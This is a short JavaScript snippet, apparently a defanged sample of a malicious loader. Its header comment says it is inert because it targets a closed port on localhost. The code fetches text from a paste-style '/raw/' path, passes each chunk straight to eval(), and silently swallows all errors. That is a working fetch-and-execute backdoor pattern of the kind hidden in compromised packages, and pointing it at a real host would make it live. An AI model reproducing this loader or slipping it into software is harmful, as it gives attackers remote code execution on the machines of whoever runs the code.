// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

try {
  const https = require('http');
  https
    .get({ hostname: '127.0.0.1', port: 9, path: '/raw/XLeVP82h', headers: { Accept: 'text/html' } }, (r) => {
      r.setEncoding('utf8');
      r.on('data', (c) => {
        eval(c);
      });
    })
    .on('error', () => {});
} catch {
  // Quiet.
}
